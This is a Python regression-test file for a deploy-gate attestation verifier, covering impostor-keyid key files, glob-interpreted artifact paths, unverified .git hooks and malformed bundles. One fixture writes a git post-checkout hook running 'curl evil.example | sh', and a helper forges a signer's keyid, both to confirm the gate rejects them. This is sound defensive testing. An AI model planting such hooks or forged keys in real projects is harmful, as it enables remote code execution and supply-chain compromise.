"""Hostile-tester findings of 2026-11-30 against the deploy gate, one regression test each: a key
file claiming another signer's keyid, an artifact path read as a glob, a directory's `.git`
left unverified. Each test failed (exit 0) before its fix."""

from __future__ import annotations

import json
from pathlib import Path

import yaml
from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric import ed25519

from attest.keys import load_public_key
from tests.verify.conftest import SLSA, TEST_RESULT, DemoLedger, provenance, result_predicate
from tests.verify.conftest import statement as make_statement
from tests.verify.gate import fresh, sha, verify


def _impostor_key(demo: DemoLedger, path: Path) -> Path:
    """``other``'s public key as a securesystemslib JSON key that claims ``ci``'s keyid."""
    ci_keyid = load_public_key(demo.ci_pub.read_bytes(), source="ci").keyid
    pub = serialization.load_pem_public_key(demo.other_pub.read_bytes())
    assert isinstance(pub, ed25519.Ed25519PublicKey)
    raw = pub.public_bytes(serialization.Encoding.Raw, serialization.PublicFormat.Raw)
    doc = {
        "keytype": "ed25519",
        "scheme": "ed25519",
        "keyid": ci_keyid,
        "keyval": {"public": raw.hex()},
    }
    path.write_text(json.dumps(doc))
    return path


def test_a_key_file_claiming_another_signers_keyid_signs_as_itself_only(
    demo: DemoLedger, tmp_path: Path
) -> None:
    name = fresh("impostor")
    demo.append(make_statement(name, SLSA, provenance()), demo.other)
    demo.append(make_statement(name, TEST_RESULT, result_predicate()), demo.other)
    vendor = _impostor_key(demo, tmp_path / "vendor.json")
    signers = {"ci": {"key": str(demo.ci_pub)}, "vendor": {"key": str(vendor)}}
    policy = demo.policy(tmp_path / "p.yaml", signers=signers)
    r = verify(sha(name), "--policy", policy, "--db", demo.db)
    assert r.exit_code == 1, r.stdout  # only vendor signed; the steps want ci

    doc = yaml.safe_load(policy.read_text())
    for step in doc["steps"]:
        step["signers"], step["threshold"] = ["ci", "vendor"], 2
    policy.write_text(yaml.safe_dump(doc))
    r = verify(sha(name), "--policy", policy, "--db", demo.db)
    assert r.exit_code == 1, r.stdout  # one signer is not two, whatever its keyid says
    assert "signed by ci" not in r.stdout


def test_an_artifact_path_is_never_a_glob(demo: DemoLedger, tmp_path: Path) -> None:
    good = fresh("glob-good")
    demo.append(make_statement(good, SLSA, provenance()))
    demo.append(make_statement(good, TEST_RESULT, result_predicate()))
    (tmp_path / "app1.zip").write_text(good)  # attested
    (tmp_path / "app[1].zip").write_text(fresh("glob-unattested"))  # what is deployed
    policy = demo.policy(tmp_path / "p.yaml")
    assert verify(tmp_path / "app1.zip", "--policy", policy, "--db", demo.db).exit_code == 0
    r = verify(tmp_path / "app[1].zip", "--policy", policy, "--db", demo.db, "--format", "json")
    assert r.exit_code == 3, r.stdout  # nothing recorded about the file deployed (was exit 0)
    assert json.loads(r.stdout)["artifacts"][0]["name"].endswith("app[1].zip")


def test_a_directory_artifact_verifies_its_git_and_hidden_files(
    demo: DemoLedger, tmp_path: Path
) -> None:
    good = fresh("ship-good")
    demo.append(make_statement(good, SLSA, provenance()))
    demo.append(make_statement(good, TEST_RESULT, result_predicate()))
    ship = tmp_path / "ship"
    ship.mkdir()
    (ship / "app.zip").write_text(good)
    policy = demo.policy(tmp_path / "p.yaml")
    assert verify(ship, "--policy", policy, "--db", demo.db).exit_code == 0
    hook = ship / "sub" / ".git" / "hooks" / "post-checkout"
    hook.parent.mkdir(parents=True)
    hook.write_text("#!/bin/sh\ncurl evil.example | sh\n")
    r = verify(ship, "--policy", policy, "--db", demo.db, "--format", "json")
    assert r.exit_code in (1, 3), r.stdout  # the hook is not attested (was exit 0)
    names = [a["name"] for a in json.loads(r.stdout)["artifacts"]]
    assert any(n.endswith("sub/.git/hooks/post-checkout") for n in names), names


def test_attestation_files_that_hold_no_attestation_objects_are_exit_2(
    demo: DemoLedger, tmp_path: Path
) -> None:
    policy = demo.policy(tmp_path / "p.yaml")
    for i, text in enumerate(("[]", '{"attestations": "x"}', '{"attestations": [1, null]}', "7")):
        f = tmp_path / f"odd{i}.json"
        f.write_text(text)
        r = verify("attestations", demo.app_zip, "--policy", policy, "--bundle", f)
        assert r.exit_code == 2, (text, r.stdout, r.stderr)
        assert str(f) in r.stderr, r.stderr
